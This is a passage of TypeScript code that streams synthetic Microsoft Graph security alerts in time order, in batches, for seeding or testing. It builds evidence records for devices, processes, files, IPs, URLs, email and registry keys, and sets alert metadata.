  const p = slot === "internal" ? null : a.places[slot];
  return evidence("ipEvidence", b, {
    ipAddress: a.ips[slot],
    countryLetterCode: p?.countryLetterCode ?? null,
    location: p ? { city: p.city, countryName: p.countryName, latitude: p.latitude, longitude: p.longitude, state: p.state } : null,
    stream: null,
  });
}

function messageEvidence(a: Assets, m: Message, t: AlertTemplate, b: EvidenceBase): Record<string, unknown> {
  const inbound = m.direction === "Inbound";
  const hasAttachment = (t.files ?? []).includes("attachment");
  const removed = /Removed/.test(t.key);
  const urls = inbound && !hasAttachment ? [a.urls.phish] : [];
  const attachments = hasAttachment ? 1 : inbound ? 0 : (t.files ?? []).length;
  return evidence("analyzedMessageEvidence", b, {
    networkMessageId: m.networkMessageId,
    internetMessageId: m.internetMessageId,
    subject: m.subject,
    senderIp: m.senderIp,
    recipientEmailAddress: m.recipientEmailAddress,
    p1Sender: { displayName: m.senderDisplayName, domainName: m.senderDomain, emailAddress: m.senderEmail },
    p2Sender: { displayName: m.senderDisplayName, domainName: m.senderDomain, emailAddress: m.senderEmail },
    receivedDateTime: iso(m.receivedMs, 0),
    deliveryAction: "Delivered",
    deliveryLocation: !inbound ? "External" : removed ? "Quarantine" : "Inbox/folder",
    antiSpamDirection: m.direction,
    language: "en",
    attachmentsCount: attachments,
    urlCount: urls.length,
    urls,
    threats: !inbound ? [] : hasAttachment ? ["Malware"] : ["Phish"],
    threatDetectionMethods: !inbound ? [] : hasAttachment ? ["File detonation"] : ["URL detonation reputation"],
    urn: `urn:MailEntity:${m.networkMessageId.replace(/-/g, "")}`,
  });
}

interface AlertState {
  verdict: string;
  fp: boolean;
  resolved: boolean;
}

function buildEvidence(ctx: Ctx, c: CampaignPlan, a: Assets, p: AlertPlan, created: string, rng: Rng, st: AlertState): Record<string, unknown>[] {
  const t = p.t;
  const v = st.fp ? "noThreatsFound" : st.verdict;
  const remediated = (s: string): string => (st.resolved && !st.fp && st.verdict === "malicious" ? "remediated" : s);
  const common = (roles: readonly string[], detailedRoles: readonly string[] = [], verdict = v): EvidenceBase => ({
    created,
    verdict,
    remediationStatus: remediated("none"),
    roles,
    detailedRoles,
  });
  const out: Record<string, unknown>[] = [];
  out.push(deviceEvidence(ctx, a, common(t.deviceRoles ?? [], ["PrimaryDevice"])));
  out.push(userEvidence(ctx, a, common(t.userRoles ?? [], ["PrimaryAccount"])));

  const tplRng = new Rng(ctx.seed, "tpl", c.index, t.key);
  const cmdText = (s: string): string => fill(s, (name, arg) => placeholder(ctx, a, name, arg));
  const activity = p.activityMs;
  for (const ps of t.processes ?? []) {
    const commandLine = cmdText(tplRng.pick(ps.cmd));
    const image = imageOf(ctx, a, commandLine) ?? campaignBinary(ctx, a, ps.image);
    const parent = campaignBinary(ctx, a, ps.parent);
    const startMs = activity + rng.int(0, 90_000);
    out.push(
      evidence("processEvidence", common(["suspicious"], ["Process"]), {
        processId: 4 * rng.int(250, 16000),
        parentProcessId: 4 * rng.int(100, 2000),
        processCommandLine: commandLine,
        processCreationDateTime: isoR(startMs, rng),
        parentProcessCreationDateTime: isoR(startMs - rng.int(5_000, 8 * HOUR), rng),
        imageFile: fileDetails(image),
        parentProcessImageFile: fileDetails(parent),
        userAccount: userAccount(ctx, a),
        detectionStatus: "detected",
        mdeDeviceId: a.mdeDeviceId,
      }),
    );
  }
  for (const role of t.files ?? []) {
    const f = campaignFile(ctx, a, role);
    const status = f.detectionStatus === "prevented" ? "prevented" : f.detectionStatus === "blocked" ? "blocked" : "none";
    out.push(
      evidence(
        "fileEvidence",
        { ...common(["created"], []), remediationStatus: remediated(status) },
        {
          fileDetails: fileDetails(f),
          detectionStatus: f.detectionStatus,
          mdeDeviceId: f.filePath === null ? null : a.mdeDeviceId,
        },
      ),
    );
  }
  for (const ip of t.ips ?? []) {
    const verdict = ip.slot === "home" || ip.slot === "internal" ? "unknown" : v;
    out.push(ipEvidence(a, ip.slot, common(ip.roles, [], verdict)));
  }
  for (const slot of t.urls ?? []) {
    const roles = slot === "c2" || slot === "download" ? ["commandAndControl"] : slot === "share" ? ["contextual"] : ["suspicious"];
    out.push(evidence("urlEvidence", common(roles), { url: a.urls[slot] }));
  }
  if (t.evidence.includes("mailbox")) {
    out.push(
      evidence("mailboxEvidence", common(t.message === "outbound" ? ["source"] : ["destination"], [], "unknown"), {
        displayName: a.displayName,
        primaryAddress: a.upn,
        upn: a.upn,
        userAccount: userAccount(ctx, a),
      }),
    );
  }
  if (t.message) {
    const m = t.message === "inbound" ? a.inbound : a.outbound;
    out.push(messageEvidence(a, m, t, common([], [])));
  }
  if (t.registry) {
    const key = cmdText(t.registry.key);
    out.push(evidence("registryKeyEvidence", common(["edited"]), { registryHive: t.registry.hive, registryKey: key }));
    if (t.evidence.includes("registryValue")) {
      const file = t.files?.[0] ? campaignFile(ctx, a, t.files[0]).fullPath : a.regValue;
      out.push(
        evidence("registryValueEvidence", common(["created"]), {
          registryHive: t.registry.hive,
          registryKey: key,
          registryValue: `"${file}"`,
          registryValueName: a.regValue,
          registryValueType: t.registry.valueType ?? "String",
          mdeDeviceId: a.mdeDeviceId,
        }),
      );
    }
  }
  if (t.cloudApp) {
    const app = CLOUD_APPS[t.cloudApp];
    out.push(
      evidence("cloudApplicationEvidence", common(["contextual"], [], "unknown"), {
        appId: app.appId,
        displayName: app.displayName,
        instanceId: 0,
        instanceName: app.displayName,
        saasAppId: app.appId,
        stream: null,
      }),
    );
  }
  if (p.tie && c.tie) {
    const other = buildAssets(ctx, c.tie.index, c.tie.startMs);
    out.push(
      c.tie.kind === "device"
        ? deviceEvidence(ctx, other, common(["attacked"], ["Lateral movement target"], "suspicious"))
        : userEvidence(ctx, other, common(["compromised"], ["Related account"], "suspicious")),
    );
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Alerts

const SEVERITY_ORDER: readonly AlertSeverity[] = ["informational", "low", "medium", "high"];
const TICKS_AT_EPOCH = 621_355_968_000_000_000n;

/** A bijection on 32-bit integers, so the id suffix is unique for the first 2^32 alerts. */
function scramble32(x: number): number {
  x = (x ^ (x >>> 16)) >>> 0;
  x = Math.imul(x, 0x45d9f3b) >>> 0;
  x = (x ^ (x >>> 16)) >>> 0;
  x = Math.imul(x, 0x45d9f3b) >>> 0;
  x = (x ^ (x >>> 16)) >>> 0;
  return x | 0;
}

function severityFor(t: AlertTemplate, tplRng: Rng): AlertSeverity {
  const variable = t.serviceSource === "azureAdIdentityProtection" || t.serviceSource === "microsoftDefenderForCloudApps";
  if (!variable || t.severity === "informational" || !tplRng.chance(0.2)) return t.severity;
  const i = SEVERITY_ORDER.indexOf(t.severity);
  const j = Math.min(3, Math.max(1, i + (tplRng.chance(0.5) ? 1 : -1)));
  return SEVERITY_ORDER[j] ?? t.severity;
}

function buildAlert(ctx: Ctx, c: CampaignPlan, j: number, seq: number): GraphAlertInput {
  const p = c.alerts[j];
  if (!p) throw new Error("alert plan out of range");
  const a = (c.assets ??= buildAssets(ctx, c.index, c.startMs));
  const t = p.t;
  const rng = new Rng(ctx.seed, "alert", c.index, j);
  const tplRng = new Rng(ctx.seed, "tpl", c.index, t.key, "meta");
  const threat = t.threats ? tplRng.pick(t.threats) : null;
  const severity = severityFor(t, tplRng);

  const ticks = BigInt(p.createdMs) * 10_000n + BigInt(p.createdSub) + TICKS_AT_EPOCH;
  const id = `da${ticks}_${scramble32((seq + ctx.idSalt) >>> 0)}`;
  const created = iso(p.createdMs, p.createdSub);
  const mde = t.serviceSource === "microsoftDefenderForEndpoint";
  const resolved = c.status === "resolved";
  // Sub-millisecond digits must keep first ≤ last activity ≤ created ≤ last update when milliseconds tie.
  const s1 = rng.int(0, 9999);
  const s2 = rng.int(0, 9999);
  let lastSub = p.activityMs === p.lastActivityMs ? Math.max(s1, s2) : s2;
  if (p.lastActivityMs === p.createdMs) lastSub = Math.min(lastSub, p.createdSub);
  const firstSub = p.activityMs === p.lastActivityMs ? Math.min(s1, s2, lastSub) : s1;
  const resolvedIso = resolved && c.resolvedMs !== null ? isoR(Math.max(c.resolvedMs, p.createdMs + MINUTE), rng) : null;
  const updatedMs = c.status === "new" ? Math.min(ctx.endMs, p.createdMs + Math.floor(square(rng.next()) * 10 * MINUTE)) : Math.max(p.createdMs, c.updatedMs);
  const updatedIso = resolvedIso ?? (updatedMs === p.createdMs ? created : isoR(updatedMs, rng));

  const alert: GraphAlertInput = {
    id,
    providerAlertId: mde ? id : rng.guid(),
    tenantId: ctx.tenantId,
    title: fill(t.title, (name) => (name === "family" ? (threat?.[1] ?? "Malware") : `{{${name}}}`)),
    description: t.description,
    severity,
    status: c.status,
    classification: c.classification,
    determination: c.determination,
    category: t.category,
    categories: [t.category],
    mitreTechniques: [...t.mitreTechniques],
    serviceSource: t.serviceSource,
    detectionSource: t.detectionSource,
    productName: t.productName,
    detectorId: DETECTOR_IDS.get(t.key) ?? null,
    alertPolicyId: null,
    actorDisplayName: t.actor ? c.actor : null,
    threatDisplayName: threat?.[0] ?? null,
    threatFamilyName: threat?.[1] ?? null,
    recommendedActions: t.recommendedActions,
    createdDateTime: created,
    firstActivityDateTime: iso(p.activityMs, firstSub),
    lastActivityDateTime: iso(p.lastActivityMs, lastSub),
    lastUpdateDateTime: updatedIso,
    resolvedDateTime: resolvedIso,
    assignedTo: null,
    alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${ctx.tenantId}`,
    evidence: [] as unknown[],
    systemTags: [],
    additionalData: {},
    customDetails: {},
  };
  alert.evidence = buildEvidence(ctx, c, a, p, created, rng, {
    verdict: t.verdict ?? (severity === "high" ? "malicious" : "suspicious"),
    fp: c.classification === "falsePositive",
    resolved,
  });
  return alert;
}

// ---------------------------------------------------------------------------------------------
// Min-heap of pending alerts, ordered by (created, sub-ms, campaign, position): a total order.

interface Pending {
  ms: number;
  sub: number;
  c: CampaignPlan;
  j: number;
}

function less(x: Pending, y: Pending): boolean {
  if (x.ms !== y.ms) return x.ms < y.ms;
  if (x.sub !== y.sub) return x.sub < y.sub;
  if (x.c.index !== y.c.index) return x.c.index < y.c.index;
  return x.j < y.j;
}

class Heap {
  private readonly a: Pending[] = [];

  get size(): number {
    return this.a.length;
  }

  peek(): Pending | undefined {
    return this.a[0];
  }

  push(x: Pending): void {
    const a = this.a;
    a.push(x);
    let i = a.length - 1;
    while (i > 0) {
      const pi = (i - 1) >> 1;
      const parent = a[pi] as Pending;
      if (!less(x, parent)) break;
      a[i] = parent;
      i = pi;
    }
    a[i] = x;
  }

  pop(): Pending | undefined {
    const a = this.a;
    const top = a[0];
    const last = a.pop();
    if (a.length === 0 || last === undefined) return top;
    let i = 0;
    for (;;) {
      const l = 2 * i + 1;
      if (l >= a.length) break;
      const r = l + 1;
      const lc = a[l] as Pending;
      const rc = a[r];
      const [ci, child] = rc !== undefined && less(rc, lc) ? [r, rc] : [l, lc];
      if (!less(child, last)) break;
      a[i] = child;
      i = ci;
    }
    a[i] = last;
    return top;
  }
}

// ---------------------------------------------------------------------------------------------
// Public API

/**
 * Yields batches of ≤ 500 Graph alerts in ascending `createdDateTime` order. Lazy and bounded in
 * memory: it can stream millions of campaigns.
 */
export function* generateAlerts(opts: SeedOptions): Generator<GraphAlertInput[]> {
  const ctx = makeCtx(opts);
  const plans = planCampaigns(ctx);
  const heap = new Heap();
  let next = plans.next();
  let batch: GraphAlertInput[] = [];
  let seq = 0;
  for (;;) {
    const top = heap.peek();
    // Every later campaign's alerts are created at or after its start, so anything strictly before
    // the next start (at ms resolution) is final.
    if (top && (next.done || top.ms < next.value.startMs)) {
      heap.pop();
      batch.push(buildAlert(ctx, top.c, top.j, seq++));
      if (--top.c.remaining === 0) top.c.assets = null;
      if (batch.length >= SEED_BATCH_SIZE) {
        yield batch;
        batch = [];
      }
    } else if (!next.done) {
      const c = next.value;
      c.alerts.forEach((p, j) => heap.push({ ms: p.createdMs, sub: p.createdSub, c, j }));
      next = plans.next();
    } else {
      break;
    }
  }
  if (batch.length > 0) yield batch;
}

/** Expected number of alerts for a progress bar (ignores the few alerts cut off at `end`). */
export function estimateAlertCount(opts: SeedOptions): number {
  const n = Math.max(0, Math.floor(opts.incidents));
  let totalK = 0;
  let expected = 0;
  let pFull = 0;
  const totalS = STORYLINES.reduce((s, x) => s + x.weight, 0);
  for (const [, w] of ALERTS_PER_CAMPAIGN) totalK += w;
  for (const [k, w] of ALERTS_PER_CAMPAIGN) {
    const pk = w / totalK;
    if (k === 1) {
      expected += pk;
      continue;
    }
    for (const s of STORYLINES) {
      const len = Math.min(k, s.steps.length);
      expected += pk * (s.weight / totalS) * len;
      if (len >= MAX_ALERTS) pFull += pk * (s.weight / totalS);
    }
  }
  expected += REPEAT_RATE * (1 - pFull);
  return Math.round(n * expected);
}
